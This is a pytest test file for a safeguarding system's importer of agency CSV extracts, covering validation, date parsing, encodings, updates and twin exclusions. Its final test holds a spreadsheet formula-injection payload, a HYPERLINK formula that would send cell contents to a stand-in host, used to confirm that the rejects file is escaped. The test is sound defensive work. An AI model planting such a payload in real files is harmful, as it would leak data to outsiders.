"""Importing agency extracts: all-or-nothing, --skip-invalid, updates by record_id."""

from datetime import date
from pathlib import Path

import pytest

from ccehub.records.importer import ImportFileError, import_records
from ccehub.records.models import AgencyRecord

HEADER = (
    "record_id,given_name,family_name,date_of_birth,sex,postcode,home_local_authority,open_nrm,nrm_decision\n"
)


@pytest.fixture
def write(tmp_path):
    def make(body: str, header: str = HEADER) -> Path:
        path = tmp_path / "extract.csv"
        path.write_text(header + body, encoding="utf-8")
        return path

    return make


def test_valid_file_imports_and_resolves_la(agencies, system_actor, write):
    """Rows are stored; the home authority is kept as given and resolved where it names an agency."""
    path = write(
        "A1,Tom,Ingram,2006-04-01,M,n1 1aa,E09000019,true,RG_POSITIVE\nA2,Josh,Lee,12/05/2007,F,,Somewhere,,\n"
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert (result.created, result.updated, result.rejects) == (2, 0, [])
    a1 = AgencyRecord.objects.get(record_id="A1")
    assert (a1.postcode, a1.sex, a1.open_nrm, a1.nrm_decision) == ("N1 1AA", "male", True, "RG_POSITIVE")
    assert a1.home_local_authority == agencies["islington"] and a1.home_local_authority_text == "E09000019"
    a2 = AgencyRecord.objects.get(record_id="A2")
    assert str(a2.date_of_birth) == "2007-05-12" and a2.home_local_authority is None and a2.open_nrm is None


def test_one_invalid_row_imports_nothing(agencies, system_actor, write):
    """All-or-nothing: errors carry line numbers and nothing is written."""
    path = write("A1,Tom,Ingram,2006-04-01,M,,,,\nA2,Jo,Lee,2006-02-30,Q,ZZZ,,maybe,RG_MAYBE\n")
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert not result.written and AgencyRecord.objects.count() == 0
    (reject,) = result.rejects
    assert reject.line == 3
    text = " ".join(reject.reasons)
    for field in ("date_of_birth", "sex", "postcode", "open_nrm"):
        assert field in text


def test_skip_invalid_imports_the_rest(agencies, system_actor, write):
    """--skip-invalid imports the valid rows and returns the rejects. Of two rows for one record_id the
    first is imported (the record stays findable; often the rows are copies) and the later rejected."""
    path = write(
        "A1,Tom,Ingram,2006-04-01,M,,,,\n,No,Id,2006-01-01,M,,,,\nA1,Dup,Licate,2006-01-01,M,,,,\n"
        "A2,Josh,Lee,2007-05-12,M,,,,\n"
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path, skip_invalid=True)
    assert result.created == 2 and [r.line for r in result.rejects] == [3, 4]
    assert sorted(AgencyRecord.objects.values_list("record_id", flat=True)) == ["A1", "A2"]
    assert AgencyRecord.objects.get(record_id="A1").given_name == "Tom"
    assert "record_id: required" in result.rejects[0].reasons
    assert (
        "appears more than once" in result.rejects[1].reasons[0] and "line 2" in result.rejects[1].reasons[0]
    )


def test_dates_as_exports_write_them(agencies, system_actor, write):
    """A time after the date (database and spreadsheet exports) and a month written as a word are
    read; a placeholder for an unknown date of birth is read as not known, with a warning."""
    path = write(
        "A1,Tom,Ingram,2009-03-14 00:00:00,M,,,,\n"
        "A2,Josh,Lee,14/03/2009 00:00,M,,,,\n"
        "A3,Sam,Hall,2009-03-14T00:00:00Z,M,,,,\n"
        "A4,Max,Ward,14 Mar 2009,M,,,,\n"
        "A5,Ben,Cole,14 March 2009,M,,,,\n"
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert result.created == 5
    assert set(AgencyRecord.objects.values_list("date_of_birth", flat=True)) == {date(2009, 3, 14)}
    for n, placeholder in enumerate(("1900-01-01", "01/01/1900", "0001-01-01", "1899-12-31")):
        result = import_records(
            actor=system_actor,
            agency=agencies["islington"],
            path=write(f"B{n},Tom,Ingram,{placeholder},M,,,,\n"),
        )
        # refusing the row would leave the child unfindable: imported without the date, with a warning
        assert result.written and result.rejects == [], placeholder
        assert AgencyRecord.objects.get(record_id=f"B{n}").date_of_birth is None
        assert result.warnings[0].startswith("line 2: date_of_birth") and "placeholder" in result.warnings[0]


def test_a_semicolon_or_tab_separated_extract_is_read(agencies, system_actor, tmp_path):
    """Excel writes semicolons where the comma is the decimal separator; some systems export tabs."""
    for name, sep in (("semi.csv", ";"), ("tabs.tsv", "\t")):
        path = tmp_path / name
        path.write_text(
            sep.join(["record_id", "given_name", "family_name", "date_of_birth", "sex", "postcode"])
            + "\n"
            + sep.join([f"{name}-1", "Tom", "Ingram", "2006-04-01", "M", "N1 1AA"])
            + "\n",
            encoding="utf-8",
        )
        result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
        assert result.created == 1, name
    assert AgencyRecord.objects.count() == 2


def test_a_windows_encoded_file_is_refused_with_its_line_and_how_to_save_it(agencies, system_actor, tmp_path):
    path = tmp_path / "cp1252.csv"
    path.write_bytes(
        (HEADER + "A1,Tom,Ingram,2006-04-01,M,,,,\nA2,Zoé,Lee,2007-05-12,F,,,,\n").encode("cp1252")
    )
    with pytest.raises(ImportFileError) as info:
        import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert "line 3" in str(info.value) and "CSV UTF-8" in str(info.value)
    assert AgencyRecord.objects.count() == 0


def test_reimport_updates(agencies, system_actor, write):
    """The same record_id for the same agency is updated, not duplicated."""
    import_records(
        actor=system_actor, agency=agencies["islington"], path=write("A1,Tom,Ingram,2006-04-01,M,,,,\n")
    )
    result = import_records(
        actor=system_actor,
        agency=agencies["islington"],
        path=write("A1,Thomas,Ingram,2006-04-01,M,,,true,\n"),
    )
    assert (result.created, result.updated) == (0, 1)
    record = AgencyRecord.objects.get()
    assert (record.given_name, record.open_nrm) == ("Thomas", True)


def test_missing_columns_is_a_file_error(agencies, system_actor, write):
    """A file without the required columns is refused before any row is read."""
    with pytest.raises(ImportFileError, match="missing column"):
        import_records(
            actor=system_actor, agency=agencies["islington"], path=write("x\n", header="record_id,name\n")
        )


def test_real_world_spellings_are_accepted(agencies, system_actor, write):
    """District-only postcodes, NHS sex codes, 'unknown' flags and any wording of an NRM decision."""
    path = write(
        "A1,Tom,Ingram,01.04.2006,1,B12,,unknown,Positive conclusive grounds\nA2,Jo,Lee,2006-01-01,9,,,,\n"
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert result.rejects == []
    a1 = AgencyRecord.objects.get(record_id="A1")
    assert (a1.postcode, a1.sex, a1.open_nrm, str(a1.date_of_birth)) == ("B12", "male", None, "2006-04-01")
    assert a1.nrm_decision == "Positive conclusive grounds"


@pytest.mark.parametrize(
    ("text", "rank"),
    [
        ("CG_POSITIVE", 4),
        ("conclusive grounds: negative", 3),
        ("RG positive", 2),
        ("rg_negative", 1),
        ("", 0),
        ("pending", 0),
    ],
)
def test_decision_rank(text, rank):
    """However an extract words it, a conclusive decision outranks a reasonable-grounds one."""
    from ccehub.records.importer import decision_rank

    assert decision_rank(text) == rank


def test_reimport_of_a_shorter_extract_keeps_other_columns(agencies, system_actor, write, tmp_path):
    """Updating from a file without the safeguarding columns leaves those columns as they were."""
    import_records(
        actor=system_actor,
        agency=agencies["islington"],
        path=write("A1,Tom,Ingram,2006-04-01,M,N1 1AA,E09000019,true,RG positive\n"),
    )
    short = tmp_path / "short.csv"
    short.write_text(
        "record_id,given_name,family_name,date_of_birth,sex,postcode\nA1,Tom,Ingram,2006-04-01,M,LS2 9JT\n"
    )
    import_records(actor=system_actor, agency=agencies["islington"], path=short)
    record = AgencyRecord.objects.get()
    assert (record.postcode, record.open_nrm, record.nrm_decision, record.home_local_authority_text) == (
        "LS2 9JT",
        True,
        "RG positive",
        "E09000019",
    )


def test_row_with_nothing_to_match_on_is_invalid(agencies, system_actor, write):
    """A row with only a record id cannot be linked to anyone."""
    result = import_records(
        actor=system_actor, agency=agencies["islington"], path=write("A1,,,,M,N1 1AA,,,\n")
    )
    assert "no name and no date of birth" in result.rejects[0].reasons[0]


def test_ragged_rows_are_invalid_with_their_line(agencies, system_actor, write):
    """A row with more or fewer fields than the header is not guessed at: it is an invalid row."""
    path = write(
        "A1,Tom,Ingram,2006-04-01,M,N1 1AA,,,\n"
        "A2,Jo,Lee,2006-02-01,F\n"  # too few
        "A3,Sam,Hill,2006-01-01,M,N1 1AA,,,,extra\n"  # too many (an unquoted comma)
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert not result.written and AgencyRecord.objects.count() == 0
    assert [r.line for r in result.rejects] == [3, 4]
    assert "the row has 5 fields, the header has 9" in result.rejects[0].reasons
    assert "an unquoted comma" in result.rejects[1].reasons[0]


def test_unclosed_quote_is_invalid_not_swallowed(agencies, system_actor, write):
    """An unclosed quotation mark would make one 'name' of the rest of the file: refused instead."""
    path = write(
        'A1,Tom,Ingram,2006-04-01,M,,,,\nA2,"Jo,Lee,2006-02-01,F,,,,\nA3,Sam,Hill,2006-01-01,M,,,,\n'
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path, skip_invalid=True)
    assert AgencyRecord.objects.filter(record_id="A1").exists()
    assert not AgencyRecord.objects.filter(record_id="A2").exists()
    (reject,) = result.rejects
    assert any("runs across lines" in reason for reason in reject.reasons)


def test_free_text_that_would_cross_the_boundary_is_refused(agencies, system_actor, write):
    """nrm_decision and home_local_authority are shown to other agencies by the look-up, so they must
    be what they say: a decision, an authority. A note, an address or a name is refused with its line;
    "pending" is no decision yet (blank); an authority's name, code or ONS code is accepted."""
    path = write(
        "A1,Tom,Ingram,2006-04-01,M,,c/o Gran Jane Doe 12 High St,true,RG positive\n"
        "A2,Josh,Lee,2007-05-12,M,,Islington,,banana\n"
        'A3,Sam,Hall,2007-05-12,M,,"Kingston upon Hull, City of",true,pending\n'
        "A4,Max,Ward,2007-05-12,M,,E09000019,true,Positive CG\n"
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert not result.written
    assert [(r.line, r.record_id) for r in result.rejects] == [(2, "A1"), (3, "A2")]
    assert (
        "home_local_authority" in result.rejects[0].reasons[0]
        and "not a local authority" in (result.rejects[0].reasons[0])
    )
    assert "nrm_decision: 'banana' is not an NRM decision" in result.rejects[1].reasons[0]
    path = write(
        'A3,Sam,Hall,2007-05-12,M,,"Kingston upon Hull, City of",true,pending\n'
        "A4,Max,Ward,2007-05-12,M,,E09000019,true,Positive CG\n"
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert result.created == 2 and result.rejects == []
    assert AgencyRecord.objects.get(record_id="A3").nrm_decision == ""
    assert AgencyRecord.objects.get(record_id="A4").nrm_decision == "Positive CG"


@pytest.mark.parametrize(
    "text",
    [
        "Alfie Whitcombe",  # a person's name: a given name and another word
        "Lives with nan",
        "Mum - Tracy Smith",
        "Tracy Smith (mother)",
        "Tracy Ingram",  # the child's own family name beside another word: a relative
        "Tom",  # the child's own given name
        "Mr Jones",
        "14 Elm Road",
    ],
)
def test_a_person_or_a_note_is_not_a_home_authority(agencies, system_actor, write, text):
    """The look-up shows home_local_authority to other agencies as written when it names no authority
    it knows, so a person's name, a relative or an address there is an invalid row, with its line."""
    result = import_records(
        actor=system_actor,
        agency=agencies["islington"],
        path=write(f"A1,Tom,Ingram,2006-04-01,M,,{text},,\n"),
    )
    assert not result.written and AgencyRecord.objects.count() == 0
    (reject,) = result.rejects
    assert reject.line == 2 and reject.reasons[0].startswith("home_local_authority:")


def test_every_authority_and_an_unknown_place_name_are_accepted():
    """No name or ONS code of an authority or force of England and Wales is taken for a person, nor is
    a place name the reference list does not hold (an extract's own wording, or a fictional test area),
    nor a family name that is also a place."""
    import csv
    from importlib import resources

    from ccehub.records.importer import authority_text_shown

    data = resources.files("ccehub.agencies.data")
    names = []
    for file in ("local_authorities.csv", "police_forces.csv"):
        with data.joinpath(file).open(encoding="utf-8") as f:
            for row in csv.DictReader(f):
                names += [row["name"], row.get("ons_code") or ""]
    assert len(names) > 300
    refused = [n for n in names if n and not authority_text_shown(n, given_name="Tom", family_name="Ingram")]
    assert refused == []
    for text in ("Northshire County Council", "London Borough of Anytown", "Somewhere"):
        assert authority_text_shown(text, given_name="Tom", family_name="Ingram")
    assert authority_text_shown("Bolton", given_name="Tom", family_name="Bolton")
    # a given name that begins a fictional authority's name is not a person when worded as one
    assert authority_text_shown("Oliver Borough Council", given_name="Tom", family_name="Ingram")
    assert not authority_text_shown("Oliver Whitcombe", given_name="Tom", family_name="Ingram")
    assert not authority_text_shown("Tom Bolton", given_name="Tom", family_name="Bolton")


def test_a_note_stored_before_the_check_is_not_shown(agencies, system_actor, write):
    """Rows imported before the importer refused a person's name keep it in the database, but the
    look-up's summary never shows it: the holding authority's code is shown instead."""
    from ccehub.records.services import _summarise

    import_records(
        actor=system_actor, agency=agencies["islington"], path=write("A1,Tom,Ingram,2006-04-01,M,,,,\n")
    )
    record = AgencyRecord.objects.select_related("agency").get(record_id="A1")
    record.home_local_authority_text = "Mum - Tracy Smith"
    record.save()
    assert _summarise([record])["home_local_authority"] == agencies["islington"].code
    record.home_local_authority_text = "Northshire"
    assert _summarise([record])["home_local_authority"] == "Northshire"


def test_records_changed_after_the_build_are_flagged(agencies, system_actor, write, client, make_user, roles):
    """Who can be *found* is what the index knew when it was built: records imported or changed since
    are counted and shown on the look-up page (flags and contacts are read live, so they are current)."""
    from datetime import timedelta

    from django.utils import timezone

    from ccehub.records.models import LinkModelVersion
    from ccehub.records.services import index_behind

    import_records(
        actor=system_actor, agency=agencies["islington"], path=write("A1,Tom,Ingram,2006-04-01,M,,,,\n")
    )
    assert index_behind() is None  # no index at all: the look-up says so itself
    version = LinkModelVersion.objects.create(version="v-test", active=True, index_path="/nowhere")
    assert index_behind() is None
    LinkModelVersion.objects.filter(pk=version.pk).update(created_at=timezone.now() - timedelta(hours=1))
    import_records(
        actor=system_actor,
        agency=agencies["islington"],
        path=write("A1,Tom,Ingram,2006-04-01,M,,,,\nA2,Josh,Lee,2007-05-12,M,,,,\n"),
    )
    message = index_behind()
    assert message is not None and message.startswith("2 agency records were imported or changed")
    assert "ccehub link build" in message
    client.force_login(make_user("pc", agency=agencies["kent"], role=roles.POLICE_OFFICER))
    page = client.get("/lookup/")
    assert page.status_code == 200 and 'id="index-behind"' in page.content.decode()


def test_a_contact_on_several_lines_is_read_and_errors_name_the_rows_first_line(
    agencies, system_actor, write
):
    """A spreadsheet cell holding a contact on two lines, properly quoted, is one contact; a line break
    in a name is still a broken row, reported at the line where the row starts."""
    header = HEADER.strip() + ",allocated_worker_contact\n"
    path = write(
        'A1,Tom,Ingram,2006-04-01,M,,,,,"J Smith\n020 7527 0000"\nA2,"Jo\nLee",Lee,2006-02-01,F,,,,,x\n',
        header=header,
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path, skip_invalid=True)
    assert AgencyRecord.objects.get(record_id="A1").allocated_worker_contact == "J Smith, 020 7527 0000"
    (reject,) = result.rejects
    assert reject.line == 4 and any("given_name: runs across lines" in r for r in reject.reasons)


def test_not_same_child_as_is_read_checked_and_kept(agencies, system_actor, write, tmp_path):
    """Semicolon-separated record ids of the agency's records of a different child (a twin). The row's
    own id is refused; an id that names no record yet is a warning, not an error; re-importing without
    the column leaves the list as it was."""
    header = "record_id,given_name,family_name,date_of_birth,sex,postcode,not_same_child_as\n"
    path = write(
        'T1,Harry,Jones,2010-04-02,M,,T2\nT2,Henry,Jones,2010-04-02,M,," T1 ;T9, T1"\n', header=header
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert result.rejects == [] and result.created == 2
    assert AgencyRecord.objects.get(record_id="T1").not_same_child_as == ["T2"]
    assert AgencyRecord.objects.get(record_id="T2").not_same_child_as == ["T1", "T9"]
    assert result.warnings == [
        "line 3: not_same_child_as names 'T9', which is not a record of la-islington (yet): it takes "
        "effect once it is imported"
    ]

    path = write(
        "T3,Amy,Cole,2011-01-01,F,,T3\nT4,Bo,Cole,2011-01-01,F,,"
        + ";".join(f"X{n}" for n in range(11))
        + "\n",
        header=header,
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert not result.written
    assert [r.reasons for r in result.rejects] == [
        ["not_same_child_as: names the row's own record_id (list the other child's records)"],
        ["not_same_child_as: more than 10 record ids"],
    ]

    shorter = tmp_path / "shorter.csv"
    shorter.write_text(
        "record_id,given_name,family_name,date_of_birth,sex,postcode\nT1,Harry,Jones,2010-04-02,M,NW1 8NH\n",
        encoding="utf-8",
    )
    import_records(actor=system_actor, agency=agencies["islington"], path=shorter)
    assert AgencyRecord.objects.get(record_id="T1").not_same_child_as == ["T2"]
    path = write("T1,Harry,Jones,2010-04-02,M,,\n", header=header)
    import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert AgencyRecord.objects.get(record_id="T1").not_same_child_as == []
    result = import_records(
        actor=system_actor,
        agency=agencies["islington"],
        path=write("T1,Harry,Jones,,,,T8;T9\n", header=header),
    )
    assert result.warnings == [
        "line 2: not_same_child_as names 'T8', 'T9', which are not records of la-islington (yet): they "
        "take effect once they are imported"
    ]


def test_not_same_child_as_dry_run_with_skip_invalid_warns_as_the_import_would(agencies, system_actor, write):
    """``--dry-run --skip-invalid`` previews the import that would follow: the valid rows' references to
    no record are warned about then too, not only once the rows are written."""
    header = "record_id,given_name,family_name,date_of_birth,sex,postcode,not_same_child_as\n"
    path = write("T1,Harry,Jones,2010-04-02,M,,T9\nT2,Henry,Jones,2010-04-02,M,,T2\n", header=header)
    warning = (
        "line 2: not_same_child_as names 'T9', which is not a record of la-islington (yet): it takes "
        "effect once it is imported"
    )
    preview = import_records(
        actor=system_actor, agency=agencies["islington"], path=path, skip_invalid=True, dry_run=True
    )
    assert not preview.written and len(preview.rejects) == 1
    assert preview.warnings == [warning]
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path, skip_invalid=True)
    assert result.written and result.warnings == [warning]


def test_not_same_child_as_names_records_of_the_same_agency_only(agencies, system_actor, write):
    """A reference is to the importing agency's own record: another agency's record with the same id is
    not the twin (agencies number records independently)."""
    from ccehub.records.services import known_different_pairs

    header = "record_id,given_name,family_name,date_of_birth,sex,postcode,not_same_child_as\n"
    import_records(
        actor=system_actor,
        agency=agencies["camden"],
        path=write("A1,Harry,Jones,2010-04-02,M,,\n", header=header),
    )
    path = write("A2,Henry,Jones,2010-04-02,M,,A1;A3\nA3,Hal,Jones,2010-04-02,M,,\n", header=header)
    import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert known_different_pairs() == ([("la-islington:A2", "la-islington:A3")], 1)


def test_line_numbers_count_blank_lines(agencies, system_actor, write):
    """A reject names the line the row is really on, even after blank lines (which are skipped)."""
    path = write("\n\nA1,Tom,Ingram,2006-04-01,M,,,,\n\nA2,Jo,Lee,2006-02-30,F,,,,\n")
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    (reject,) = result.rejects
    assert (reject.record_id, reject.line) == ("A2", 6)


def test_row_of_empty_cells_is_skipped(agencies, system_actor, write):
    """A spreadsheet writes a cleared row as ",,,,": nothing to import, not an invalid row."""
    path = write("A1,Tom,Ingram,2006-04-01,M,,,,\n,,,,,,,,\n , ,,,,,,,\n")
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert (result.created, result.rejects) == (1, [])


def test_column_names_in_any_case(agencies, system_actor, write):
    """``Record_ID`` or ``DATE_OF_BIRTH`` (as systems export them) name the contract's columns."""
    header = " Record_ID,Given_Name,FAMILY_NAME,Date_Of_Birth,Sex,Postcode,Open_NRM\n"
    path = write("A1,Tom,Ingram,2006-04-01,M,N1 1AA,yes\n", header=header)
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path)
    assert (result.created, result.rejects) == (1, [])
    record = AgencyRecord.objects.get(record_id="A1")
    assert (record.given_name, record.postcode, record.open_nrm) == ("Tom", "N1 1AA", True)


def test_rejects_file_is_safe_to_open_in_a_spreadsheet(agencies, system_actor, write, tmp_path):
    """A rejected row's record_id is the extract's own text: written so a spreadsheet shows it, never
    runs it (``=HYPERLINK(…)`` in an id column would send the neighbouring cells to a stranger)."""
    import csv

    from ccehub.records.importer import write_rejects

    path = write(
        '"=HYPERLINK(""http://x.test/?""&B2)",Tom,Ingram,2006-02-30,M,,,,\n@SUM(1),Jo,Lee,not a date,M,,,,\n'
    )
    result = import_records(actor=system_actor, agency=agencies["islington"], path=path, skip_invalid=True)
    out = tmp_path / "rejects.csv"
    write_rejects(result.rejects, out)
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["record_id"] for row in rows] == ['\'=HYPERLINK("http://x.test/?"&B2)', "'@SUM(1)"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
